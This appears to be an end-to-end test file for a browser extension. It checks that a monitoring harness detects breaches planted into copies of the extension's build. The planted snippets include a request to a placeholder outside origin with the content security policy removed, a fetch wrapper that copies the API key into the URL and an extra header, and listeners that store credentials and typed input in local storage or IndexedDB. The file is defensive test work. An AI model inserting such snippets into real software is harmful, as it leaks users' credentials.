import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { API_KEYS } from "../../sandbox/credentials.ts";
import { TEST_IDS } from "../../sandbox/pages/test-ids.ts";
import { ACME } from "../../sandbox/zones.ts";
import { connectByForm } from "../harness/connect.ts";
import { hover, openTicket } from "../harness/steps.ts";
import { launchWitnessed } from "../harness/witness/launch.ts";
import { test as base, expect } from "./fixtures.ts";

/** Tests the witness of all end-to-end tests, on builds of the extension with a planted breach. */

interface Breach {
  file: "background.js" | "content-scripts/page.js" | "the options' script";
  /** Runs before the file's own code. */
  code: string;
  /** Each of these must be reported. */
  said: RegExp[];
  /** Leaves out the content security policy, which would prevent it. */
  withoutPolicy?: true;
}

/** Placeholder in the code for the origin of a server that isn't permitted. */
const ELSEWHERE = "http://elsewhere";

/** Those of one build are tried in one browser: nothing that is reported for one is reported for another, too. */
const BUILDS: readonly Record<string, Breach>[] = [
  {
    "a request to another origin": {
      file: "background.js",
      code: `fetch("${ELSEWHERE}/seen?by=worker");`,
      withoutPolicy: true,
      said: [/^127\.0\.0\.1:\d+ was contacted/, /\/seen\?by=worker: asks somebody else/],
    },
    "the key in an address and in another header": {
      file: "background.js",
      code: `{
        const real = fetch;
        globalThis.fetch = (url, init) => {
          const key = new Headers(init?.headers).get("authorization");
          if (!key) return real(url, init);
          const headers = { ...init.headers, "X-Copy": btoa(key) };
          return real(url + (url.includes("?") ? "&" : "?") + "copy=" + encodeURIComponent(key), { ...init, headers });
        };
      }`,
      said: [/sandbox-api-key is in the address/, /sandbox-api-key is in "X-Copy: /],
    },
    "answers and the key in a console": {
      file: "background.js",
      code: "chrome.storage.session.onChanged.addListener((changes) => console.log(JSON.stringify(changes)));",
      said: [
        /in the console of .*background\.js.*: log: .*sandbox-api-key/,
        /in the console of .*: log: .*id\.acme\.example/,
      ],
    },
    "a word of the content script in the page's console": {
      file: "content-scripts/page.js",
      code: "console.debug('here');",
      said: [/in the console of .*content-scripts\/page\.js.*: debug: here/],
    },
    "the key in storage.local as base64": {
      file: "background.js",
      code: "chrome.storage.session.onChanged.addListener(({ credential }) => credential && chrome.storage.local.set({ copy: btoa(JSON.stringify(credential)) }));",
      said: [
        /^sandbox-api-key is in storage\.local/,
        /left in the profile: sandbox-api-key in Default\/.*Extension Settings/,
      ],
    },
  },
  {
    "a request to another origin, stopped by the policy": {
      file: "background.js",
      code: `fetch("${ELSEWHERE}/seen").catch(() => {});`,
      said: [/the browser recorded an ERROR .*violates .*Content Security Policy/],
    },
    "an error in the worker that nobody catches": {
      file: "background.js",
      code: "setTimeout(() => { throw new Error('planted'); }, 100);",
      said: [/the browser recorded an ERROR in .*background\.js: Uncaught Error: planted/],
    },
    "answers and the key in storage.local": {
      file: "background.js",
      code: "chrome.storage.session.onChanged.addListener((changes) => chrome.storage.local.set({ ['copy' + Math.random()]: JSON.stringify(changes) }));",
      said: [
        /^sandbox-api-key is in storage\.local/,
        /^id\.acme\.example is in storage\.local/,
        /left in the profile: sandbox-api-key in Default\/.*Extension Settings/,
      ],
    },
    "answers in IndexedDB": {
      file: "background.js",
      code: `chrome.storage.session.onChanged.addListener((changes) => {
        const opening = indexedDB.open("copies" + Math.random());
        opening.onupgradeneeded = () => opening.result.createObjectStore("copies", { autoIncrement: true }).add(changes);
        opening.onsuccess = () => opening.result.close();
      });`,
      said: [
        /^id\.acme\.example is in IndexedDB, copies/,
        /^sandbox-api-key is in IndexedDB, copies/,
      ],
    },
    "what is typed into the options, in localStorage": {
      file: "the options' script",
      code: "addEventListener('input', ({ target }) => localStorage.setItem(target.type, target.value));",
      said: [/^sandbox-api-key is in localStorage of /],
    },
  },
];

const test = base.extend<{ elsewhere: string }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures a function needs from its first parameter.
  elsewhere: async ({}, use) => {
    const server = createServer((_, response) => response.end()).listen(0, "127.0.0.1");
    await new Promise((listening) => server.once("listening", listening));
    await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
    server.close();
  },
});

for (const breaches of BUILDS)
  test(`the witness reports ${Object.keys(breaches).join("; ")}`, async ({
    station,
    sandbox,
    elsewhere,
  }) => {
    const folder = await mkdtemp(join(tmpdir(), "keycard-planted-"));
    await cp(station.extension, folder, { recursive: true });
    for (const breach of Object.values(breaches))
      await plant(folder, { ...breach, code: breach.code.replace(ELSEWHERE, elsewhere) });
    const browser = await launchWitnessed(folder, { api: sandbox.url, headless: true });
    try {
      await connectByForm(browser, { apiKey: API_KEYS.full, zone: ACME.id });
      const page = await openTicket(browser, sandbox, 1);
      const card = await hover(page, page.getByTestId(TEST_IDS.requesterEmail));
      await expect(card.locator("article")).toBeVisible();
      await page.waitForTimeout(300);
      const seen = await browser.end();
      for (const [what, breach] of Object.entries(breaches))
        for (const said of breach.said)
          expect.soft(seen, what).toContainEqual(expect.stringMatching(said));
    } finally {
      await browser.close();
      await rm(folder, { recursive: true, force: true });
    }
  });

async function plant(folder: string, { file, code, withoutPolicy }: Breach): Promise<void> {
  const path = join(folder, file === "the options' script" ? await optionsScript(folder) : file);
  await writeFile(path, `${code}\n${await readFile(path, "utf8")}`);
  if (!withoutPolicy) return;
  const manifest = join(folder, "manifest.json");
  const { content_security_policy: _, ...rest } = JSON.parse(await readFile(manifest, "utf8"));
  await writeFile(manifest, JSON.stringify(rest));
}

async function optionsScript(folder: string): Promise<string> {
  const html = await readFile(join(folder, "options.html"), "utf8");
  const script = /src="([^"]*options[^"]*\.js)"/.exec(html)?.[1];
  if (!script) throw new Error("The options page has no script.");
  return script;
}
